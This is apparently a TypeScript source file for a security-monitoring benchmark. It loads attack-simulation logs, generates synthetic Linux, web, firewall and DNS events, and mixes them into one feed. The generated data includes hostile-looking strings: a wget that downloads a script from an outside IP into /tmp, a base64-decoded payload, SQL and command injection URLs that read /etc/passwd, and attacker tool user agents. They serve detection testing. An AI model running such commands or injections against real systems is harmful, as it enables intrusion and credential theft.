// The benchmark's event stream: real attack-simulation logs (security-datasets: Windows through
// collectors' normalizer, Zeek and auditd adapted here) plus generated Linux, web and network
// events, all ECS as the pipelines expect, interleaved like a SOC's mixed feed.
import { createHash } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { normalizeWindowsEvent } from '@halong/collectors';

export type BenchEvent = Record<string, unknown>;
const DATASETS = join(__dirname, '..', '..', '..', 'shared', 'datasets', 'security-datasets', 'datasets');

function zips(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? zips(path) : name.endsWith('.zip') ? [path] : [];
  });
}

// Debian's unzip: the benchmark reads a handful of archives once, no zip library needed for that.
const unzip = (zip: string, member?: string) => execFileSync('unzip', ['-p', zip, ...(member ? [member] : [])], { maxBuffer: 1 << 30 }).toString('utf8');
const id = (s: string) => createHash('sha256').update(s).digest('hex').slice(0, 32);

/** Windows events of the Windows archives, normalized to ECS (at most `limit`). */
export function windowsEvents(limit: number): BenchEvent[] {
  const out: BenchEvent[] = [];
  for (const zip of zips(join(DATASETS, 'atomic', 'windows'))) {
    for (const line of unzip(zip).split('\n')) {
      if (out.length >= limit) return out;
      if (line.trim()) out.push(normalizeWindowsEvent(line) as unknown as BenchEvent);
    }
  }
  return out;
}

/** Zeek TSV logs of the compound campaign as ECS (`zeek.<log>.*` keeps every column). */
export function zeekEvents(): BenchEvent[] {
  const zip = zips(join(DATASETS, 'compound')).find((z) => z.includes('zeek'))!;
  const out: BenchEvent[] = [];
  for (const log of ['conn', 'dns', 'http', 'files', 'kerberos', 'smb_mapping', 'ssl', 'x509', 'pe', 'weird']) {
    let fields: string[] = [];
    for (const line of unzip(zip, `${log}.log`).split('\n')) {
      if (line.startsWith('#fields')) fields = line.split('\t').slice(1);
      if (!line || line.startsWith('#')) continue;
      const row = Object.fromEntries(line.split('\t').map((v, i) => [fields[i]!, v]).filter(([, v]) => v !== '-' && v !== '(empty)'));
      out.push({
        '@timestamp': new Date(Number(row['ts']) * 1000).toISOString(),
        event: { id: id(line), module: 'zeek', dataset: `zeek.${log}`, category: ['network'] },
        source: { ip: row['id.orig_h'], port: Number(row['id.orig_p']) },
        destination: { ip: row['id.resp_h'], port: Number(row['id.resp_p']) },
        zeek: { [log]: row },
      });
    }
  }
  return out;
}

/** auditd records of the Linux archive, as Filebeat's auditd module lays them out. */
export function auditdEvents(): BenchEvent[] {
  const zip = zips(join(DATASETS, 'atomic', 'linux'))[0]!;
  return unzip(zip)
    .split('\n')
    .filter(Boolean)
    .map((line) => {
      const kv = Object.fromEntries([...line.matchAll(/(\w+)=("[^"]*"|\S+)/g)].map((m) => [m[1]!, m[2]!.replace(/^"|"$/g, '')]));
      return {
        '@timestamp': new Date().toISOString(),
        event: { id: id(line), module: 'auditd', dataset: 'auditd.log' },
        host: { os: { type: 'linux' } },
        auditd: { log: { record_type: kv['type'], ...kv } },
        process: { executable: kv['exe'], name: kv['comm'], pid: Number(kv['pid']) || undefined },
      };
    });
}

/** A deterministic PRNG so every run replays the same generated events. */
function prng(seed: number): () => number {
  let s = seed >>> 0;
  return () => ((s = (s * 1664525 + 1013904223) >>> 0) / 2 ** 32);
}

const pick = <T>(r: () => number, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
const LINUX = [['/usr/bin/curl', 'curl -s https://updates.example.gov.vn/pkg'], ['/bin/bash', 'bash -c id'], ['/usr/bin/python3', 'python3 -m http.server 8000'], ['/usr/bin/wget', 'wget http://198.51.100.7/x.sh -O /tmp/x.sh'], ['/usr/bin/ssh', 'ssh admin@10.20.1.5'], ['/usr/bin/base64', 'base64 -d /tmp/payload']] as const;
const URLS = ['/portal/dich-vu-cong?page=2', '/api/v1/ho-so/123', "/search?q=' or 1=1--", '/wp-login.php', '/.env', '/static/app.js', '/cgi-bin/test.cgi?cmd=cat%20/etc/passwd'];
const AGENTS = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0', 'curl/8.5.0', 'sqlmap/1.7', 'python-requests/2.31', 'Nmap Scripting Engine'];
const DOMAINS = ['dichvucong.gov.vn', 'updates.microsoft.com', 'pastebin.com', 'raw.githubusercontent.com', 'abc123.ngrok.io', 'example.duckdns.org'];

/** Generated Linux process starts, web access logs, firewall and DNS events, `n` of each kind. */
export function generatedEvents(n: number, seed = 7): BenchEvent[] {
  const r = prng(seed);
  const out: BenchEvent[] = [];
  const ts = () => new Date(Date.UTC(2026, 10, 23) + Math.floor(r() * 86_400_000)).toISOString();
  const ip = () => `10.${Math.floor(r() * 50)}.${Math.floor(r() * 255)}.${Math.floor(r() * 255)}`;
  for (let i = 0; i < n; i++) {
    const [exe, cmd] = pick(r, LINUX);
    out.push({ '@timestamp': ts(), event: { id: id(`l${seed}-${i}`), category: ['process'], type: ['start'], module: 'auditd', dataset: 'linux.process' }, host: { name: `srv-${i % 40}`, os: { type: 'linux' } }, process: { executable: exe, name: exe.split('/').pop(), command_line: cmd, pid: 1000 + i, parent: { executable: '/bin/bash', name: 'bash' } }, user: { name: pick(r, ['root', 'www-data', 'hue-admin']) } });
    out.push({ '@timestamp': ts(), event: { id: id(`w${seed}-${i}`), category: ['web'], type: ['access'], module: 'nginx', dataset: 'nginx.access' }, source: { ip: ip() }, url: { original: pick(r, URLS) }, http: { request: { method: pick(r, ['GET', 'POST', 'PUT']) }, response: { status_code: pick(r, [200, 302, 403, 404, 500]) } }, user_agent: { original: pick(r, AGENTS) } });
    out.push({ '@timestamp': ts(), event: { id: id(`f${seed}-${i}`), category: ['network'], type: ['connection'], action: pick(r, ['allow', 'deny']), module: 'fortinet', dataset: 'fortinet.firewall' }, observer: { type: 'firewall' }, source: { ip: ip(), port: 1024 + Math.floor(r() * 60000) }, destination: { ip: ip(), port: pick(r, [22, 53, 80, 443, 445, 3389, 4444]) }, network: { transport: 'tcp' } });
    out.push({ '@timestamp': ts(), event: { id: id(`d${seed}-${i}`), category: ['network'], module: 'zeek', dataset: 'zeek.dns' }, network: { protocol: 'dns' }, source: { ip: ip() }, dns: { question: { name: pick(r, DOMAINS), type: 'A' } } });
  }
  return out;
}

/** One feed from several sources, shuffled deterministically, as events meet on a real topic. */
export function mixed(seed: number, ...streams: BenchEvent[][]): BenchEvent[] {
  const out = streams.flat();
  const r = prng(seed);
  for (let i = out.length - 1; i > 0; i--) {
    const j = Math.floor(r() * (i + 1));
    [out[i], out[j]] = [out[j]!, out[i]!];
  }
  return out;
}
